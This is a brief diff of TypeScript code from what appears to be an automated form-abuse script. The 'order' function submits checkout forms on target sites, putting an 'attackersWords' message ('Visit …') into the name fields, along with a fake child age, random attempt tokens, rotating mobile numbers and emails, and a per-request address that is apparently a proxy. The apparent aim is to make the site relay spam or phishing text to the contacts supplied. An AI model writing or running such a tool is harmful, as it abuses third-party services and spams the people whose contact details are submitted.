@@ -90,7 +90,13 @@ async function inTurns<Item>(items: Item[], work: (item: Item) => Promise<number
 
 async function order({ url, offer, batch }: Target, { address, mobile, email }: Try): Promise<number> {
   const place = `${url}/checkout/${offer}?batch=${batch}`;
-  const typed = { name: `Visit ${attackersWords}`, learnerName: attackersWords, learnerAge: '10', terms: 'yes' };
+  const typed = {
+    name: `Visit ${attackersWords}`,
+    learnerName: attackersWords,
+    learnerAge: '10',
+    ages: '10',
+    terms: 'yes',
+  };
   const attempt = randomBytes(18).toString('base64url');
   const form = { ...typed, ...(await opened(place)), attempt, mobile, email, country: 'IN', method: 'offline' };
   return send(place, form, address);
